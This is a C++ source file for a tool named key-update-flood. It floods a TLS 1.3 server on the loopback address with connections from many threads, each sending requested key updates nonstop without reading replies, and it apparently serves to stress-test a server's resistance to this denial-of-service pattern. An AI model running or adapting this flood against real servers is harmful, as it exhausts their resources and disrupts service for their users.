// An attacker without credentials. On its TLS 1.3 connections it sends key updates as fast as it can; each
// asks for one in return, and no data comes in between. It never reads the answers, connects again when it is
// cut off, and goes on until it is killed.
//   key-update-flood PORT CONNECTIONS
#include <openssl/err.h>
#include <openssl/ssl.h>

#include <arpa/inet.h>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>
#include <vector>

namespace {

int connected(int port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in at{};
  at.sin_family = AF_INET;
  at.sin_port = htons(static_cast<std::uint16_t>(port));
  at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&at), sizeof at) == 0) return fd;
  ::close(fd);
  return -1;
}

bool cut_off(int fd) {
  pollfd asked{fd, POLLRDHUP, 0};
  return ::poll(&asked, 1, 0) > 0;
}

[[noreturn]] void flood(SSL_CTX* context, int port) {
  for (;;) {
    const int fd = connected(port);
    if (fd < 0) {
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
      continue;
    }
    const timeval patience{1, 0};  // a server that stopped reading may have closed
    ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    {
      const std::unique_ptr<SSL, decltype(&SSL_free)> ssl(SSL_new(context), &SSL_free);
      SSL_set_fd(ssl.get(), fd);
      bool goes_on = SSL_connect(ssl.get()) == 1;
      // SSL_do_handshake sends the update at once. No request and no other data follows.
      while (goes_on && !cut_off(fd))
        goes_on =
            SSL_key_update(ssl.get(), SSL_KEY_UPDATE_REQUESTED) == 1 && SSL_do_handshake(ssl.get()) == 1;
    }
    ERR_clear_error();
    ::close(fd);
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) {
    std::fprintf(stderr, "usage: key-update-flood PORT CONNECTIONS\n");
    return 2;
  }
  ::signal(SIGPIPE, SIG_IGN);
  const int port = std::atoi(argv[1]);
  const std::unique_ptr<SSL_CTX, decltype(&SSL_CTX_free)> context(SSL_CTX_new(TLS_client_method()),
                                                                  &SSL_CTX_free);
  SSL_CTX_set_min_proto_version(context.get(), TLS1_3_VERSION);
  SSL_CTX_set_verify(context.get(), SSL_VERIFY_NONE, nullptr);
  std::vector<std::thread> attackers;
  for (int i = 0; i < std::atoi(argv[2]); ++i)
    attackers.emplace_back([ssl = context.get(), port] { flood(ssl, port); });
  for (std::thread& one : attackers) one.join();
}
